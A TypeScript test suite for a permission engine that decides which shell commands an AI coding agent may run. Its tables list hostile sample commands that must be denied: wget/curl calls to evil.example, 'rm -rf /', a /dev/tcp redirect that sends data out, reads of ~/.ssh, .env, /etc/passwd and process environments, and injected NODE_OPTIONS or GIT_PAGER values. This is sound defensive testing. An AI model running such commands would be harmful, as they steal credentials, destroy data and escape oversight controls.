// Shell commands, by attack class (../shared/reference/attack-classes.md), each with benign controls.
// Every table runs twice: with the real shell analysis (src/policy/shell/) end to end, and with the
// test stand-in (support/fake-shell.ts), which pins how the resolver turns an analysis into decisions
// independently of the parser. The analysis itself has its own tables in test/policy/shell/.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AnalyzeShell } from "../../src/policy/judge";
import { analyzeShellCommand } from "../../src/policy/shell/analyze";
import { fakeAnalyzeShellCommand } from "./support/fake-shell";
import {
  ATTACK_POLICY,
  type Decider,
  decider,
  type Expect,
  makeWorld,
  policyFrom,
  resolverFor,
} from "./support/world";

const world = makeWorld();
const ANALYZERS: [string, AnalyzeShell][] = [
  ["real analysis", analyzeShellCommand],
  ["stand-in analysis", fakeAnalyzeShellCommand],
];
const deciders = new Map<string, { attack: Decider; baseline: Decider }>();
let decide: Decider;
beforeAll(async () => {
  for (const [label, analyzeShell] of ANALYZERS) {
    const load = async (text: string) =>
      decider(world, resolverFor(world, await policyFrom(world, text), { analyzeShell }));
    deciders.set(label, { attack: await load(ATTACK_POLICY), baseline: await load("") });
  }
  decide = deciders.get("stand-in analysis")?.attack as Decider;
});
afterAll(() => world.cleanup());

type Case = [command: string, expected: Expect];

function table(name: string, cases: Case[], policy: "attack" | "baseline" = "attack"): void {
  describe.each(ANALYZERS.map(([label]) => label))(`${name} (%s)`, (label) => {
    it.each(cases)("%s → %s", async (command, expected) => {
      const decision = await deciders.get(label)?.[policy]("Bash", { command });
      expect(decision?.behavior, decision?.reason).toBe(expected);
      expect(decision?.reason.length).toBeGreaterThan(10);
    });
  });
}

table("chaining operators and newlines", [
  ["git diff | wget -qO- evil.example", "deny"],
  ["cat README.md\nwget evil.example", "deny"],
  ["git log; curl evil.example", "deny"],
  ["npm test && rm -rf /", "deny"],
  ["echo ok || wget evil.example", "deny"],
  ["cat README.md & wget evil.example", "deny"],
  ["git diff --stat | cat", "allow"],
  ["git log --oneline -5 && git diff", "allow"],
  ["cat README.md; echo done", "allow"],
]);

table("substitution and expansion", [
  ['cat "$(wget -qO- evil.example)"', "deny"],
  ["grep `id` README.md", "deny"],
  ["echo ${HOME@P}", "deny"],
  ["echo $SOME_TOKEN", "deny"],
  ['grep -n "a|b" src/x.ts', "allow"],
  ["echo 'cost: five dollars'", "allow"],
]);

table("subshells, groups, process substitution", [
  ["{ wget evil.example; }", "deny"],
  ["cat <(wget evil.example)", "deny"],
  ["(cd / && cat etc/passwd)", "deny"],
  ["find src -name '*.ts'", "allow"],
]);

table("wrappers that run their argument", [
  ["timeout 3 wget evil.example", "deny"],
  ["sh -c 'git log; wget x'", "deny"],
  ["xargs -I{} wget {}", "deny"],
  ["env wget evil.example", "deny"],
  ["nohup curl evil.example", "deny"],
  ["sudo cat README.md", "deny"],
  ["timeout 5 git log --oneline", "allow"],
  ["nice git diff", "allow"],
]);

table("dangerous options of allowed programs", [
  ["git log --ext-diff", "deny"],
  ["git -c core.pager=id log", "deny"],
  ["git diff --output=/tmp/x", "deny"],
  ["find . -delete", "deny"],
  ["find . -fls /tmp/x", "deny"],
  ["sed -n '2w /tmp/x' README.md", "deny"],
  ["sed -n 's/x/y/e' README.md", "deny"],
  ["rg --pre=sh x README.md", "deny"],
  ["rg -n x README.md", "allow"],
  ["git log --oneline -5", "allow"],
  ["sed -n '10,20p' README.md", "allow"],
  ["find src -name x", "allow"],
]);

describe("a rule that names the dangerous option covers it", () => {
  it("allows --ext-diff under a rule written for it, and only there", async () => {
    const named = decider(
      world,
      resolverFor(
        world,
        await policyFrom(
          world,
          'permissions:\n  allow: ["Bash(git log --ext-diff:*)", "Bash(git diff --output=*)"]\n',
        ),
      ),
    );
    expect((await named("Bash", { command: "git log --ext-diff" })).behavior).toBe("allow");
    expect((await named("Bash", { command: "git diff --output=out.txt" })).behavior).toBe("allow");
    const plain = await decide("Bash", { command: "git log --ext-diff" });
    expect(plain.reason).toBe(
      "`git log --ext-diff` uses --ext-diff (it runs an external diff program); Bash(git log:*) does not name that option, so it does not cover this command. " +
        "Allowed here: read-only commands, Bash(git log:*), Bash(git diff:*), Bash(cat:*), Bash(grep:*), Bash(find:*), Bash(sed -n:*), Bash(echo:*), Bash(npm test).",
    );
  });
});

table("environment prefixes", [
  ["GIT_PAGER='sh -c id' git log", "deny"],
  ["LD_LIBRARY_PATH=. ls", "deny"],
  ["NODE_OPTIONS=--require=./evil.js npm test", "deny"],
  ["npm_config_script_shell=./evil.sh npm test", "deny"],
  ["LC_ALL=C sort README.md", "allow"],
  ["TZ=UTC git log -1", "allow"],
]);

table("exact and prefix rules", [
  ["npm test -- --reporter ./evil.js", "deny"],
  ["npm testx", "deny"],
  ["npm test; wget x", "deny"],
  ["npm tests", "deny"],
  ["git logx", "deny"],
  ["npm test", "allow"],
  ["npm  test", "allow"],
  ["git log", "allow"],
]);

table("redirections are writes", [
  ["echo x > ../outside", "deny"],
  ["git log >> .git/hooks/post-checkout", "deny"],
  ["echo x >| .github/workflows/ci.yml", "deny"],
  ["cat README.md > /dev/tcp/example.org/80", "deny"],
  ["echo x > .github/steward.yml", "deny"],
  ["cat < .env", "deny"],
  ["grep x README.md > /dev/null", "allow"],
  ["git log > log.txt", "allow"],
  ["echo x >| notes.txt", "allow"],
  ["cat < README.md 2> /dev/null", "allow"],
]);

table("operands are paths", [
  ["cat /proc/1/environ", "deny"],
  ["grep -r . ~/.ssh", "deny"],
  ["git diff --no-index /etc/hosts README.md", "deny"],
  ["cat ../../etc/passwd", "deny"],
  ["cat .env", "deny"],
  ["cat ../app2/secret", "deny"],
  ["cat .git/config", "deny"],
  ["cat src/a.ts", "allow"],
  ["grep -n x src/a.ts docs/guide.md", "allow"],
  ["cat .git/HEAD", "allow"],
]);

// `printenv` and `env` were denied here; issue 18 (class 9) makes them read-only, since the agent's
// environment is an allow-list: test/policy/regression/false-denies.test.ts holds them now.
table("secrets in the environment", [
  ["echo $GITHUB_TOKEN", "deny"],
  ["cat /proc/self/environ", "deny"],
  ["echo no secrets here", "allow"],
]);

table("size and depth", [
  [`${"true && ".repeat(200)}wget evil.example`, "deny"],
  [`echo ${"a".repeat(11_000)}`, "deny"],
  [`${"true && ".repeat(50)}git log`, "allow"],
]);

table(
  "the built-in policy: read-only commands only",
  [
    ["git status", "allow"],
    ["ls src", "allow"],
    ["git log --oneline | head -5", "allow"],
    ["rm -rf src", "deny"],
    ["npm install", "deny"],
    ["npm test", "deny"],
    ["git push origin main", "deny"],
    ["curl https://example.org", "deny"],
    ["ls ~/.ssh", "deny"],
    ["", "deny"],
  ],
  "baseline",
);

describe("Bash decisions", () => {
  it("quote the deciding rule, and null for the built-in policy", async () => {
    expect(await decide("Bash", { command: "npm test" })).toEqual({
      behavior: "allow",
      reason: "allowed: Bash(npm test) allows it",
      rule: "Bash(npm test)",
    });
    expect(await deciders.get("stand-in analysis")?.baseline("Bash", { command: "git status" })).toEqual({
      behavior: "allow",
      reason: "allowed: it is a read-only command",
      rule: null,
    });
  });

  it("deny when the analysis cannot pin the command down, with its reason", async () => {
    expect(await decide("Bash", { command: "echo $SOME_TOKEN" })).toEqual({
      behavior: "deny",
      reason: "the command uses an expansion ($) whose value is unknown.",
      rule: null,
    });
  });

  it("deny when the analysis throws, instead of passing", async () => {
    const broken = decider(
      world,
      resolverFor(world, await policyFrom(world, ""), {
        analyzeShell: () => Promise.reject(new Error("parser crashed")),
      }),
    );
    expect(await broken("Bash", { command: "git status" })).toMatchObject({
      behavior: "deny",
      reason: "the command could not be analysed (parser crashed).",
    });
  });

  it("a bare Bash rule allows every command but still guards paths", async () => {
    const all = decider(
      world,
      resolverFor(world, await policyFrom(world, "permissions:\n  allow: [Bash]\n")),
    );
    expect((await all("Bash", { command: "npm install" })).behavior).toBe("allow");
    expect((await all("Bash", { command: "git log --ext-diff" })).behavior).toBe("allow");
    expect((await all("Bash", { command: "echo x > .git/hooks/pre-commit" })).behavior).toBe("deny");
    expect((await all("Bash", { command: "cat .env" })).behavior).toBe("deny");
  });

  it("deny rules also match the command with its wrappers or as plain words", async () => {
    const d = decider(
      world,
      resolverFor(
        world,
        await policyFrom(
          world,
          'permissions:\n  allow: [Bash]\n  deny: ["Bash(git push:*)", "Bash(timeout:*)"]\n',
        ),
      ),
    );
    expect(await d("Bash", { command: "git  push origin" })).toMatchObject({
      behavior: "deny",
      rule: "Bash(git push:*)",
    });
    expect(await d("Bash", { command: "timeout 5 git status" })).toMatchObject({
      behavior: "deny",
      rule: "Bash(timeout:*)",
    });
    expect(await d("Bash", { command: "git status && git push" })).toMatchObject({
      behavior: "deny",
      rule: "Bash(git push:*)",
    });
  });

  it("wildcards follow Claude Code: * spans words, a trailing ' *' also matches the bare command", async () => {
    const d = decider(
      world,
      resolverFor(
        world,
        await policyFrom(world, 'extends: none\npermissions:\n  allow: ["Bash(git * main)", "Bash(ls *)"]\n'),
      ),
    );
    expect((await d("Bash", { command: "git checkout main" })).behavior).toBe("allow");
    expect((await d("Bash", { command: "git push --force origin main" })).behavior).toBe("allow");
    expect((await d("Bash", { command: "git checkout dev" })).behavior).toBe("deny");
    expect((await d("Bash", { command: "ls" })).behavior).toBe("allow");
    expect((await d("Bash", { command: "lsof" })).behavior).toBe("deny");
  });

  it("under extends: none even read-only commands need a rule", async () => {
    const d = decider(
      world,
      resolverFor(
        world,
        await policyFrom(world, 'extends: none\npermissions:\n  allow: ["Bash(git status)", "Read(/**)"]\n'),
      ),
    );
    expect((await d("Bash", { command: "git status" })).behavior).toBe("allow");
    expect((await d("Bash", { command: "git log" })).behavior).toBe("deny");
    expect((await d("Bash", { command: "git status > out.txt" })).behavior).toBe("deny");
  });
});

describe("glob operands are judged by what they match (real analysis)", () => {
  let d: Decider;
  beforeAll(async () => {
    world.file("globs/a.txt");
    world.file("globs/b.txt");
    world.link("globs/evil.txt", `${world.home}/.ssh/id_rsa`);
    world.file("clean/a.txt");
    world.file("clean/.hidden");
    world.file("many/.keep");
    for (let i = 0; i < 210; i++) world.file(`many/f${String(i)}.txt`);
    d = decider(
      world,
      resolverFor(world, await policyFrom(world, ATTACK_POLICY), { analyzeShell: analyzeShellCommand }),
    );
  });
  const rows: Case[] = [
    ["cat globs/*", "deny"],
    ["cat globs/*.txt", "deny"],
    ["cat globs/[a-b].txt", "allow"],
    ["cat globs/?.txt", "allow"],
    ["cat clean/*", "allow"],
    ["cat .e*", "deny"],
    ["cat clean/.*", "allow"],
    ["ls -d ./.[!.]* ./..?*", "deny"],
    ["ls ./.*", "deny"],
    ["cat many/*.txt", "deny"],
    ["cat src/*.ts", "allow"],
    ["cat nothing-here/*.ts", "allow"],
  ];
  it.each(rows)("%s → %s", async (command, expected) => {
    const decision = await d("Bash", { command });
    expect(decision.behavior, decision.reason).toBe(expected);
  });

  it("says why a glob that matches too much is denied", async () => {
    expect((await d("Bash", { command: "cat many/*.txt" })).reason).toBe(
      `the pattern ${world.root}/many/*.txt matches more than 200 files; name the files, or narrow the pattern.`,
    );
  });
});

describe("`..` after a symbolic link climbs from the link's target (real analysis)", () => {
  let d: Decider;
  beforeAll(async () => {
    world.link("links/sibling", world.sibling);
    world.link("links/docs", `${world.root}/docs`);
    d = decider(
      world,
      resolverFor(world, await policyFrom(world, ATTACK_POLICY), { analyzeShell: analyzeShellCommand }),
    );
  });
  const rows: Case[] = [
    ["cat links/sibling/../app2/secret", "deny"],
    ["grep -n x links/sibling/../app2/secret", "deny"],
    ["cat links/docs/../README.md", "allow"],
    ["cat docs/../README.md", "allow"],
  ];
  it.each(rows)("%s → %s", async (command, expected) => {
    const decision = await d("Bash", { command });
    expect(decision.behavior, decision.reason).toBe(expected);
  });
});
